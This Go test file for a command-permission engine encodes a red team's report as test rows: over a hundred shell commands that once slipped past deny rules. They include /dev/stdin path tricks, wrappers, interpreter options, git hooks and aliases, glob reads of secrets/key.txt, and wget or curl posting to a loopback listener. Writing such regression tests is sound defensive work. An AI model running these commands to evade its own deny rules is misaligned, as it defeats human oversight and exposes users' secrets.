package permissions

import (
	"os"
	osexec "os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// rt1Case is one line of an outside red team's report on the deny-rule promise: a command that
// `warden check --permission-mode yolo` allowed while a deny rule it defeats was in force, with the
// rule and the decision that rule must bring about in every mode and under any allow rule. prog is
// the program whose own allow rule (Bash(prog:*)) the case is also tried under; "" takes the first
// word.
type rt1Case struct {
	class int
	cmd   string
	deny  []string
	want  Decision
	prog  string
}

// The red team's marker: a denied touch of M, a denied curl to a loopback listener, a denied push.
var (
	denyTouch = []string{"Bash(touch:*)", "Bash(rm:*)", "Bash(git push:*)"}
	denyCurl  = []string{"Bash(curl:*)"}
	denyPush  = []string{"Bash(git push:*)"}
	denyRead  = []string{"Read(./secrets/**)"}
	denyEdit  = []string{"Edit(./.github/**)"}
)

var rt1Cases = []rt1Case{
	// 1. Stream paths compared as typed, not cleaned.
	{1, "bash /dev/./stdin <<< 'touch M'", denyTouch, Deny, ""},
	{1, "bash //dev/stdin <<< 'touch M'", denyTouch, Deny, ""},
	{1, "bash /dev/pts/../stdin <<< 'touch M'", denyTouch, Deny, ""},
	{1, "bash /proc/self/root/dev/stdin <<< 'touch M'", denyTouch, Deny, ""},
	{1, "bash /dev/./fd/0 <<< 'touch M'", denyTouch, Deny, ""},
	{1, ". /dev/../dev/fd/0 <<< 'touch M'", denyTouch, Deny, "."},
	{1, "python3 /dev/./stdin <<< 'import os; os.system(\"touch M\")'", denyTouch, Ask, ""},
	{1, "perl /dev//stdin <<< 'system q(touch M)'", denyTouch, Ask, ""},
	{1, "make -f /dev/./stdin <<< 'all: ; touch M'", denyTouch, Ask, ""},
	// 2. Shells not recognised.
	{2, "rbash -c 'touch M'", denyTouch, Deny, ""},
	{2, "echo touch M | rbash", denyTouch, Deny, "rbash"},
	{2, "script -q /dev/null <<< 'touch M'", denyTouch, Deny, ""},
	{2, "/proc/self/exe -c 'touch M'", denyTouch, Deny, "/proc/self/exe"},
	// 3. Bash builtins that run a string.
	{3, "mapfile -C 'touch M #' -c 1 a < README.md", denyTouch, Ask, ""},
	{3, "readarray -C 'touch M #' -c 1 a < README.md", denyTouch, Ask, ""},
	{3, "compgen -C 'touch M' x", denyTouch, Ask, ""},
	{3, "compgen -W '$(touch M)' x", denyTouch, Ask, ""},
	{3, "test -v 'a[$(touch M)]'", denyTouch, Ask, ""},
	{3, "[ -v 'a[$(touch M)]' ]", denyTouch, Ask, "["},
	{3, "printf -v 'a[$(touch M)]' x", denyTouch, Ask, ""},
	{3, "read 'a[$(touch M)]' <<< x", denyTouch, Ask, ""},
	{3, "trap -- '-;touch M' EXIT", denyTouch, Deny, ""},
	// 4. Interpreter options not modelled.
	{4, "python3 -m timeit -n1 '__import__(\"os\").system(\"touch M\")'", denyTouch, Ask, ""},
	{4, "python3 -m pdb -c 'import os' -c q README.md", denyTouch, Ask, ""},
	{4, "python3 -m cProfile -m timeit '__import__(\"os\").system(\"touch M\")'", denyTouch, Ask, ""},
	{4, "perl '-MPOSIX;system q(touch M)' /dev/null", denyTouch, Ask, ""},
	{4, "node --import='data:text/javascript,require(\"child_process\").execSync(\"touch M\")' /dev/null", denyTouch, Ask, ""},
	{4, "node --experimental-loader=data:text/javascript,x /dev/null", denyTouch, Ask, ""},
	{4, "vim -es '+!touch M' +q", denyTouch, Ask, ""},
	{4, "view -es '+!touch M' +q", denyTouch, Ask, ""},
	{4, "vimdiff -es '+!touch M' +q", denyTouch, Ask, ""},
	{4, "vim -es -u /dev/stdin <<< '!touch M'", denyTouch, Ask, ""},
	{4, "gdb -batch --ex='shell touch M'", denyTouch, Ask, ""},
	{4, "gdb -batch --init-eval-command='shell touch M'", denyTouch, Ask, ""},
	{4, "make -f /dev/null 'X:=$(shell touch M)'", denyTouch, Ask, ""},
	{4, "make -f /dev/null 'X!=touch M'", denyTouch, Ask, ""},
	{4, "GNUMAKEFLAGS='--eval=$(shell touch M)' make -q -f /dev/null", denyTouch, Ask, "make"},
	{4, "MAKEFILES=/dev/stdin make -q -f /dev/null <<< 'X:=$(shell touch M)'", denyTouch, Ask, "make"},
	// 5. Programs told to run a command: abbreviations and missed options.
	{5, "tar -cf /dev/null --checkpoint=1 --checkpoint-act=exec='touch M' README.md", denyTouch, Ask, ""},
	{5, "tar -c --use-comp='touch M' -f /dev/null README.md", denyTouch, Ask, ""},
	{5, "zip -q o.zip README.md -T --unzip-comm='touch M;true'", denyTouch, Ask, ""},
	{5, "strace -o '|touch M' true", denyTouch, Deny, ""},
	{5, "gcc -wrapper sh,-c,'touch M' -x c -c /dev/null -o /dev/null", denyTouch, Ask, ""},
	{5, "go build -toolexec 'touch M' ./...", denyTouch, Deny, ""},
	{5, "script --comm 'touch M' -q /dev/null", denyTouch, Deny, ""},
	// 6. Wrappers not seen through or misparsed.
	{6, "chrt -b 0 touch M", denyTouch, Deny, ""},
	{6, "strace --output /dev/null touch M", denyTouch, Deny, ""},
	{6, "unshare --wd . touch M", denyTouch, Deny, ""},
	{6, "ionice -t touch M", denyTouch, Deny, ""},
	{6, "taskset --cpu-list 0 touch M", denyTouch, Deny, ""},
	{6, "setarch x86_64 touch M", denyTouch, Ask, ""},
	{6, "linux64 touch M", denyTouch, Ask, ""},
	{6, "fakeroot touch M", denyTouch, Ask, ""},
	{6, "setpriv touch M", denyTouch, Ask, ""},
	{6, "runuser -u root touch M", denyTouch, Ask, ""},
	{6, "ssh-agent touch M", denyTouch, Ask, ""},
	{6, "gpg-agent --daemon touch M", denyTouch, Ask, ""},
	{6, "dbus-run-session -- touch M", denyTouch, Ask, ""},
	{6, "choom -n 0 -- touch M", denyTouch, Ask, ""},
	{6, "bwrap --bind / / touch M", denyTouch, Ask, ""},
	{6, "sg root -c 'touch M'", denyTouch, Ask, ""},
	{6, "capsh -- -c 'touch M'", denyTouch, Ask, ""},
	// 7. git.
	{7, "git -c help.autocorrect=immediate psuh origin HEAD:refs/heads/x", denyPush, Ask, "git"},
	{7, "git -c help.autocorrect=immediate rebasee --exec 'touch M' HEAD", denyTouch, Ask, "git"},
	{7, "git fetch --upload='git push origin HEAD:refs/heads/x;' origin", denyPush, Deny, "git"},
	{7, "git clone --upload-pac='touch M' origin x", denyTouch, Deny, "git"},
	{7, "git ls-remote --upload='touch M' origin", denyTouch, Deny, "git"},
	{7, "git rebase --exe 'git push origin HEAD:refs/heads/x' --root", denyPush, Deny, "git"},
	{7, "git submodule --quiet foreach 'touch M'", denyTouch, Deny, "git"},
	{7, "git grep --open-files='touch M' hello", denyTouch, Deny, "git"},
	{7, "echo '#!/bin/sh' | install -m755 /dev/stdin post-checkout; cp -t .git/hooks post-c*; git checkout -q -b y", denyTouch, Ask, "git"},
	{7, "mkdir -p {home}/.xdg/git && printf '[alias]\\n\\tx = !touch M\\n' > {home}/.xdg/git/config && XDG_CONFIG_HOME={home}/.xdg git x", denyTouch, Ask, "git"},
	// 8. Code written and run in one call.
	{8, "echo 'touch M' > s.sh; bash s?sh", denyTouch, Ask, "bash"},
	{8, "echo 'touch M' > s.sh; . s.s[h]", denyTouch, Ask, "."},
	{8, "echo 'touch M' > s.sh; source ./s*.sh", denyTouch, Ask, "source"},
	{8, "echo 'touch M' | split -l1 - s_; bash s_aa", denyTouch, Ask, "bash"},
	{8, "printf 'import os\\nos.system(\"touch M\")\\n' > m.py; python3 -m m", denyTouch, Ask, "python3"},
	{8, "printf 'import os\\nos.system(\"touch M\")\\n' > timeit.py; python3 -m timeit 1", denyTouch, Ask, "python3"},
	{8, "echo 'require(\"child_process\").execSync(\"touch M\")' > index.js; node .", denyTouch, Ask, "node"},
	{8, "printf 'all:\\n\\ttouch M\\n' > Makefile; make", denyTouch, Ask, "make"},
	{8, "mkdir -p src && printf 'all:\\n\\ttouch M\\n' > src/Makefile; make -C src", denyTouch, Ask, "make"},
	{8, "echo '{\"scripts\":{\"test\":\"touch M\"}}' > package.json; npm test", denyTouch, Ask, "npm"},
	{8, "echo 'int main(){return system(\"touch M\");}' | gcc -x c -w -; ./a.out", denyTouch, Ask, "gcc"},
	{8, "python3 -m py_compile y.py; python3 __pycache__/y.cpython-311.pyc", denyTouch, Ask, "python3"},
	// 9. Read(./secrets/**).
	{9, "cat < se*/key.txt", denyRead, Deny, ""},
	{9, "base64 < secret?/key.txt > f", denyRead, Deny, "base64"},
	{9, "exec 3< se*/key.txt; cat <&3", denyRead, Deny, "exec"},
	{9, "tar cf /tmp/o.tar secret?", denyRead, Ask, ""},
	{9, "zip -qr /tmp/o.zip s*", denyRead, Ask, ""},
	{9, "mv se*/k* /tmp/o", denyRead, Deny, ""},
	{9, "awk 1 se*/key.txt", denyRead, Deny, ""},
	{9, "sed -n p se*/key.txt", denyRead, Deny, ""},
	{9, "split se*/key.txt /tmp/x", denyRead, Ask, ""},
	{9, "csplit se*/key.txt 1", denyRead, Ask, ""},
	{9, "zstd se*/key.txt -o /tmp/o", denyRead, Ask, ""},
	{9, "lz4 se*/key.txt /tmp/o", denyRead, Ask, ""},
	{9, "iconv se*/key.txt", denyRead, Ask, ""},
	{9, "openssl enc -in se*/key.txt", denyRead, Ask, ""},
	{9, "ar rc /tmp/o.a se*/key.txt", denyRead, Ask, ""},
	{9, "find se* -exec cat {} \\;", denyRead, Deny, ""},
	{9, "wget --post-file se*/key.txt http://127.0.0.1:18777/", denyRead, Ask, ""},
	{9, "tar -Csecrets -cf /tmp/o.tar key.txt", denyRead, Ask, ""},
	{9, "cpp -P -includesecrets/key.txt /dev/null", denyRead, Ask, ""},
	{9, "wget -isecrets/key.txt", denyRead, Ask, ""},
	{9, "cpp -P <<< '#include \"secrets/key.txt\"'", denyRead, Ask, ""},
	{9, "bash secrets/key.txt", denyRead, Deny, ""},
	{9, ". ./secrets/key.txt", denyRead, Deny, "."},
	{9, "sh -v secrets/key.txt", denyRead, Deny, ""},
	{9, "python3 secrets/key.txt", denyRead, Deny, ""},
	{9, "node secrets/key.txt", denyRead, Deny, ""},
	{9, "python3 -m base64 secrets/key.txt", denyRead, Ask, ""},
	{9, "python3 -m quopri secrets/key.txt", denyRead, Ask, ""},
	{9, "python3 -m fileinput secrets/key.txt", denyRead, Ask, ""},
	{9, "python3 -m tarfile -c /tmp/o.tar secrets", denyRead, Ask, ""},
	{9, "python3 -m zipfile -c /tmp/o.zip secrets", denyRead, Ask, ""},
	{9, "git commit --allow-empty -qF se*/key.txt && git log -1 --format=%B", denyRead, Deny, "git"},
	{9, "git cat-file --batch <<< HEAD:secrets/key.txt", denyRead, Ask, "git"},
	{9, "g(){ cp key.txt /tmp/o; }; cd secrets; g", denyRead, Deny, "cp"},
	// 10. Edit(./.github/**).
	{10, "sed -i s/ci/X/ .gith*/ci.yml", denyEdit, Deny, ""},
	{10, "install README.md .gith*/ci.yml", denyEdit, Deny, ""},
	{10, "sort -o .gith*/ci.yml README.md", denyEdit, Ask, ""},
	{10, "uniq README.md .gith*/ci.yml", denyEdit, Ask, ""},
	{10, "find .gith* -delete", denyEdit, Ask, ""},
	{10, "git mv README.md .gith*/", denyEdit, Deny, "git"},
	{10, "git rm -q .gith*/ci.yml", denyEdit, Deny, "git"},
	{10, "python3 -m json.tool /dev/stdin .github/ci.yml <<< '{}'", denyEdit, Ask, ""},
	{10, "python3 -m gzip .github/ci.yml", denyEdit, Ask, ""},
	{10, "python3 -m zipfile -e o.zip .github", denyEdit, Ask, ""},
	// 11. Bash(curl:*): the curl versions of classes 1, 3, 4, 5 and 6.
	{11, "bash /dev/./stdin <<< 'curl -s http://127.0.0.1:18777/'", denyCurl, Deny, ""},
	{11, "rbash -c 'curl -s http://127.0.0.1:18777/'", denyCurl, Deny, ""},
	{11, "mapfile -C 'curl -s http://127.0.0.1:18777/ #' -c 1 a < README.md", denyCurl, Ask, ""},
	{11, "python3 -m timeit '__import__(\"os\").system(\"curl -s http://127.0.0.1:18777/\")'", denyCurl, Ask, ""},
	{11, "tar -cf /dev/null --checkpoint=1 --checkpoint-act=exec='curl -s http://127.0.0.1:18777/' README.md", denyCurl, Ask, ""},
	{11, "chrt -b 0 curl -s http://127.0.0.1:18777/", denyCurl, Deny, ""},
	{11, "taskset --cpu-list 0 curl -s http://127.0.0.1:18777/", denyCurl, Deny, ""},
	// Found while fixing: the checks that read a program's options read them the way the program does.
	{13, "sed --in-pl s/ci/X/ .github/ci.yml", denyEdit, Deny, ""},
	{13, "nocache -n 1 touch M", denyTouch, Deny, ""},
	// Words xargs appends at run time are words no model can give a role.
	{13, "find .github | xargs rm", denyEdit, Ask, "xargs"},
	{13, "find . -name '*.yml' | xargs sed -i s/ci/X/", denyEdit, Ask, "xargs"},
	{13, "ls | xargs -n1 git add", denyRead, Ask, "xargs"},
	// Unconfirmed in the report, and kept here all the same.
	{12, "go run -exec 'touch M' ./cmd/x", denyTouch, Deny, ""},
	{12, "go test -exec 'touch M' ./...", denyTouch, Deny, ""},
	{12, "python3 -m http.server -d se* 8000", denyRead, Ask, ""},
}

// rt1Allow are the allow rules each case is tried under besides yolo mode: a bare Bash rule and the
// program's own rule, each with the edits in the workspace and /tmp allowed, so that a redirection in
// the case asks for nothing of its own.
func rt1Allow(prog string) [][]string {
	edits := []string{"Edit(./**)", "Edit(//tmp/**)"}
	return [][]string{append([]string{"Bash"}, edits...), append([]string{"Bash(" + prog + ":*)"}, edits...)}
}

// rt1Corpus turns every case into corpus rows: in yolo mode, under a bare Bash rule and under the
// program's own rule with the deny rules it defeats, and in yolo mode without them, where nothing
// changes.
func rt1Corpus() []corpusCase {
	var cs []corpusCase
	for _, r := range rt1Cases {
		prog := r.prog
		if prog == "" {
			prog = strings.Fields(r.cmd)[0]
		}
		cs = append(cs, corpusCase{cmd: r.cmd, want: r.want, mode: ModeYolo, deny: r.deny})
		for _, a := range rt1Allow(prog) {
			cs = append(cs, corpusCase{cmd: r.cmd, want: r.want, allow: a, deny: r.deny})
		}
		cs = append(cs, corpusCase{cmd: r.cmd, want: Allow, mode: ModeYolo})
	}
	return cs
}

// TestRedTeamReportRowsHoldInEveryMode runs the rows on their own, so that a failure names the class.
func TestRedTeamReportRowsHoldInEveryMode(t *testing.T) {
	ws, home := fixture(t)
	failed := map[int]int{}
	for _, r := range rt1Cases {
		prog := r.prog
		if prog == "" {
			prog = strings.Fields(r.cmd)[0]
		}
		cmd := strings.NewReplacer("{ws}", ws, "{home}", home).Replace(r.cmd)
		pols := []Policy{{Mode: ModeYolo, Deny: r.deny}}
		for _, a := range rt1Allow(prog) {
			pols = append(pols, Policy{Allow: a, Deny: r.deny})
		}
		pols = append(pols, Policy{Mode: ModeAcceptEdits, Allow: rt1Allow(prog)[0], Deny: r.deny, SandboxAutoAllow: true})
		for _, p := range pols {
			p.Workspace, p.Home = ws, home
			e, err := NewEngine(p)
			if err != nil {
				t.Fatal(err)
			}
			if v := e.Decide(Request{Kind: Exec, Command: cmd, Cwd: ws}); v.Decision != r.want {
				failed[r.class]++
				t.Errorf("class %d: %q (mode %s, allow %q, deny %q): %s (%s), want %s", r.class, r.cmd, p.Mode, p.Allow, p.Deny, v.Decision, v.Reason, r.want)
			}
		}
	}
	if len(failed) > 0 {
		t.Logf("failures per class: %v", failed)
	}
}

// TestReportGitRowsOnARealRepository: the report's rows that need a repository with a history (a secret
// committed under secrets/), hooks and configuration: each asks or denies in every mode and under any
// allow rule while the deny rules are in force, and yolo mode allows it without them.
func TestReportGitRowsOnARealRepository(t *testing.T) {
	if _, err := osexec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root, _ := filepath.EvalSymlinks(t.TempDir())
	ws, home := filepath.Join(root, "ws"), filepath.Join(root, "home")
	for _, f := range []string{"ws/secrets/key.txt", "ws/README.md", "home/.keep"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, f)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, f), []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"},
		{"config", "core.hooksPath", "hooks"}} {
		git := osexec.Command("git", args...)
		git.Dir = ws
		if out, err := git.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	env := func(name string) (string, bool) {
		switch name {
		case "XDG_CONFIG_HOME":
			return filepath.Join(home, ".xdg"), true
		case "PATH":
			return "/usr/bin:/bin", true
		}
		return "", false
	}
	empty := "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
	for _, r := range []rt1Case{
		{9, "git diff " + empty + " HEAD", denyRead, Ask, "git"},
		{9, "git diff-index -p " + empty, denyRead, Ask, "git"},
		{9, "git cat-file --batch <<< HEAD:secrets/key.txt", denyRead, Ask, "git"},
		{9, "git commit --allow-empty -qF se*/key.txt && git log -1 --format=%B", denyRead, Deny, "git"},
		{7, "mkdir -p hooks && printf '#!/bin/sh\\ntouch M\\n' > hooks/post-commit && chmod +x hooks/post-commit && git commit --allow-empty -qm x",
			denyTouch, Ask, "git"},
		{7, "mkdir -p ~/.xdg/git && printf '[alias]\\n\\tx = !touch M\\n' > ~/.xdg/git/config && git x", denyTouch, Ask, "git"},
		{7, "git submodule --quiet foreach 'touch M'", denyTouch, Deny, "git"},
	} {
		pols := []Policy{{Mode: ModeYolo, Deny: r.deny}}
		for _, a := range rt1Allow(r.prog) {
			pols = append(pols, Policy{Allow: a, Deny: r.deny})
		}
		for _, p := range append(pols, Policy{Mode: ModeYolo}) {
			p.Workspace, p.Home, p.Env = ws, home, env
			e, err := NewEngine(p)
			if err != nil {
				t.Fatal(err)
			}
			want := r.want
			if len(p.Deny) == 0 {
				want = Allow
			}
			if v := e.Decide(Request{Kind: Exec, Command: r.cmd, Cwd: ws}); v.Decision != want {
				t.Errorf("class %d: %q (mode %s, allow %q, deny %q): %s (%s), want %s", r.class, r.cmd, p.Mode, p.Allow, p.Deny,
					v.Decision, v.Reason, want)
			}
		}
	}
}
